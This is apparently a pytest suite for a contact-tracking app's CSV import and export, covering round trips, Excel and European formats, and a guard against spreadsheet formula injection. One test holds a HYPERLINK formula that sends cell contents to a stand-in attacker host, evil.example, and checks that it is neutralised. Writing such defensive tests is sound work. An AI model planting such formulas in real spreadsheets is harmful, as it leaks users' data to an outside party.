"""netlog's own spreadsheet: export, import, and the formula guard."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netlog.errors import InvalidValue
from netlog.interop.csvio import (
    CONTACT_COLUMNS,
    FORMULA_START,
    TOUCHPOINT_COLUMNS,
    neutralise,
    read_contacts,
    restore,
    write_contacts,
    write_touchpoints,
)
from netlog.interop.detect import decode
from netlog.interop.records import ContactRecord, TouchpointRecord

FIXTURES = Path(__file__).parent / "fixtures"

PEOPLE = [
    ContactRecord(
        name="Dr. Elena Petrova",
        role="attending",
        institution="Brigham and Women's Hospital",
        specialty="orthopedic surgery / hand",
        email="elena.petrova@example.org",
        phone="+1 617 555 0100",
        linkedin="https://www.linkedin.com/in/elena-petrova",
        x="@epetrova",
        how_met="AAOS 2026, poster session",
        types=["mentor:research", "sponsor"],
        tier="society",
        tags=["ortho", "research"],
        core=True,
        every=60,
        notes='Asked me to send the abstract.\nSaid "call me Elena".',
        archived=False,
        met=date(2026, 3, 12),
        last_contact=date(2026, 3, 15),
        next_step="send abstract draft",
    ),
    ContactRecord(
        name="أحمد الخطيب", institution="مستشفى الملك فيصل", how_met="ACS Clinical Congress"
    ),
    ContactRecord(name="अनन्या शर्मा", institution="AIIMS दिल्ली", types=["peer", "alumni"]),
    ContactRecord(name="王小明", institution="北京协和医院", tags=["心胸外科"], archived=True),
    ContactRecord(name="Zoë Ångström 🦴", how_met="-- hallway chat --", notes="=1+1", every=120),
]


def export(records: list[ContactRecord]) -> str:
    out = io.StringIO(newline="")
    write_contacts(records, out)
    return out.getvalue()


def test_the_spreadsheet_starts_with_the_columns_the_guides_ask_for() -> None:
    header = export([]).splitlines()[0].split(",")
    assert header[:5] == ["name", "institution", "how_met", "last_contact", "next_step"]
    assert set(header) >= {"email", "phone", "types", "tags", "core", "every", "met", "archived"}
    assert tuple(header) == CONTACT_COLUMNS


def test_export_import_export_gives_the_same_bytes_in_any_script() -> None:
    first = export(PEOPLE)
    result = read_contacts(first)
    assert [row.record for row in result.rows] == PEOPLE
    assert export([row.record for row in result.rows]) == first


def test_a_phone_number_with_a_plus_survives_the_round_trip() -> None:
    text = export([ContactRecord(name="Priya Raman", phone="+1 617 555 0100")])
    cells = next(r for r in csv.DictReader(io.StringIO(text)))
    assert cells["phone"] == "'+1 617 555 0100"  # a spreadsheet shows text, runs nothing
    assert read_contacts(text).rows[0].record.phone == "+1 617 555 0100"


def test_a_formula_in_a_note_is_neutralised_in_the_file() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = export([ContactRecord(name="Mallory", notes=attack, role="@SUM(1+1)")])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["notes"] == "'" + attack
    assert row["role"] == "'@SUM(1+1)"
    assert row["name"] == "Mallory"


def test_the_quote_comes_off_when_a_spreadsheet_moved_and_renamed_the_columns() -> None:
    # The file netlog wrote, re-saved with columns reordered and renamed: the
    # anti-formula quote is recognised by the cell's content, wherever it sits.
    text = "Phone Number,Full Name,Tags\r\n'+1 617 555 0100,Priya Raman,'=cmd\r\n"
    record = read_contacts(text).rows[0].record
    assert record.phone == "+1 617 555 0100"
    assert record.tags == ["=cmd"]
    again = export([record])
    assert read_contacts(again).rows[0].record.phone == "+1 617 555 0100"
    assert "''" not in again


@given(st.text())
def test_neutralising_then_restoring_gives_back_any_text(cell: str) -> None:
    safe = neutralise(cell)
    assert not safe.startswith(FORMULA_START)
    assert restore(safe) == cell


_cell = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="\r\x00"), max_size=30
).filter(lambda s: s == s.strip() and ";" not in s)
_word = st.text(alphabet="abcdefghij-=+@ αβ", min_size=1, max_size=8).map(str.strip)
_words = st.lists(
    _word.filter(bool),
    max_size=3,
    unique=True,
)


@given(
    st.builds(
        ContactRecord,
        name=_cell.filter(bool),
        role=st.none() | _cell.filter(bool),
        phone=st.none() | st.from_regex(r"[+\-=@]?[0-9 ()\-]{3,15}", fullmatch=True),
        how_met=st.none() | _cell.filter(bool),
        notes=st.none() | _cell.filter(bool),
        tags=_words,
        core=st.booleans(),
        every=st.none() | st.integers(min_value=1, max_value=400),
        last_contact=st.none() | st.dates(),
        next_step=st.none() | _cell.filter(bool),
    )
)
def test_any_contact_round_trips_byte_for_byte(record: ContactRecord) -> None:
    first = export([record])
    back = [row.record for row in read_contacts(first).rows]
    assert back == [record]
    assert export(back) == first


def test_an_excel_file_with_bom_crlf_and_a_line_break_in_a_cell() -> None:
    text = decode((FIXTURES / "excel_contacts.csv").read_bytes())
    result = read_contacts(text)
    assert [r.record.name for r in result.rows] == [
        "Dr. Elena Petrova",
        "Kwame Mensah",
        "Zoë Ångström",
    ]
    elena = result.rows[0].record
    assert elena.next_step == "Send abstract draft\nand ask about the research year"
    assert elena.types == ["mentor:research", "sponsor"]
    assert elena.last_contact == date(2026, 3, 12)
    # the quoted line break makes Elena's row two lines long
    assert [r.line for r in result.rows] == [2, 4, 6]
    assert result.skipped_blank == 1


def test_rows_without_a_name_are_skipped_and_counted() -> None:
    text = export([ContactRecord(name="Kwame Mensah")]) + ",Grady\n" + "\n" + "   ,x\n"
    result = read_contacts(text)
    assert [r.record.name for r in result.rows] == ["Kwame Mensah"]
    assert result.skipped_blank == 2


def test_an_email_that_is_not_an_address_is_left_out_and_the_row_comes_in() -> None:
    text = "name,email\nPriya Raman,priya@example.org\nKwame Mensah,kwame at grady\n"
    result = read_contacts(text)
    assert [(r.record.name, r.record.email) for r in result.rows] == [
        ("Priya Raman", "priya@example.org"),
        ("Kwame Mensah", None),
    ]
    assert result.dropped == {"email": 1}


def test_an_unreadable_date_is_left_out_and_an_unknown_type_names_its_line() -> None:
    result = read_contacts("name,last_contact\nPriya,2026-02-30\nKwame,3/4/2026\n")
    assert [r.record.last_contact for r in result.rows] == [None, None]
    assert result.dropped == {"date": 2}
    with pytest.raises(InvalidValue, match=r"^line 3: unknown relationship type in types") as err:
        read_contacts("name,types\nPriya,peer\nKwame,bestie\n")
    assert "bestie" not in str(err.value)


def test_a_note_longer_than_the_csv_modules_default_limit_round_trips() -> None:
    note = "x" * 200_000 + "\nend"
    text = export([ContactRecord(name="Priya Raman", notes=note)])
    (row,) = read_contacts(text).rows
    assert row.record.notes == note


def test_a_semicolon_separated_file_from_european_excel_reads() -> None:
    text = "name;institution;email;last_contact\r\nJörg Müller;Charité;jm@example.de;04.03.2026\r\n"
    (row,) = read_contacts(text).rows
    assert (row.record.name, row.record.institution) == ("Jörg Müller", "Charité")
    assert row.record.last_contact == date(2026, 3, 4)


def test_a_file_without_a_name_column_says_so() -> None:
    with pytest.raises(InvalidValue, match="no 'name' column"):
        read_contacts("institution,email\nMGH,a@example.org\n")
    with pytest.raises(InvalidValue, match="linkedin"):
        read_contacts("First Name,Last Name\nJane,Doe\n")
    with pytest.raises(InvalidValue, match="empty"):
        read_contacts("\ufeff\r\n")


def test_unknown_columns_are_reported_not_silently_read() -> None:
    result = read_contacts("Name,Hospital,Favourite colour\nPriya,MGH,teal\n")
    assert result.rows[0].record.institution == "MGH"
    assert result.ignored_columns == ["Favourite colour"]


def test_a_row_longer_than_the_header_is_refused() -> None:
    with pytest.raises(InvalidValue, match=r"^line 2: 3 cells"):
        read_contacts("name,email\nPriya,p@example.org,surprise\n")


def test_touchpoints_export_with_their_own_header_and_guard() -> None:
    out = io.StringIO(newline="")
    count = write_touchpoints(
        [
            TouchpointRecord(
                contact="王小明",
                email=None,
                date=date(2026, 3, 12),
                channel="conference",
                kind="met",
                event="AATS 2026",
                note="-talked about the CT surgery research year",
                follow_up=date(2026, 3, 15),
                awaiting_reply=True,
            )
        ],
        out,
    )
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert count == 1
    assert tuple(rows[0]) == TOUCHPOINT_COLUMNS
    assert rows[1][0] == "王小明"
    assert rows[1][7] == "'-talked about the CT surgery research year"
    assert rows[1][9:] == ["2026-03-15", "yes"]


def test_old_mac_line_breaks_in_a_note_do_not_split_the_row() -> None:
    text = export([ContactRecord(name="Kwame Mensah", notes="first\rsecond", next_step="\rcall")])
    result = read_contacts(text)
    assert [r.record.notes for r in result.rows] == ["first\nsecond"]
    assert result.rows[0].record.next_step == "\ncall"
    assert export([r.record for r in result.rows]) == text


def test_csv_lines_are_split_as_stringio_splits_them() -> None:
    """The reader gets the lines StringIO(newline="") would give (a lone CR, CRLF,
    LF; never the other characters str.splitlines takes for line ends)."""
    import io
    import random

    from netlog.interop.csvio import physical_lines

    rng = random.Random(16)
    pieces = ["a", ",", '"', "\r", "\n", "\r\n", "\x85", "\u2028", "\x0b", "\x1c", "é", "王"]
    for _ in range(5000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 24)))
        assert list(physical_lines(text)) == list(io.StringIO(text, newline=""))


def test_the_first_lines_are_found_without_splitting_the_whole_file() -> None:
    import random

    from netlog.interop.csvio import first_filled_line, head_lines

    rng = random.Random(7)
    pieces = ["a", " ", "\r", "\n", "\r\n", "\x85", "\u2028", "\x0b", "é"]
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 60)))
        start = rng.randint(1, 6)
        count = rng.randint(0, 6)
        assert head_lines(text, count, start=start) == text.splitlines()[:count]
        filled = next((line for line in text.splitlines() if line.strip()), "")
        assert first_filled_line(text, start=start) == filled
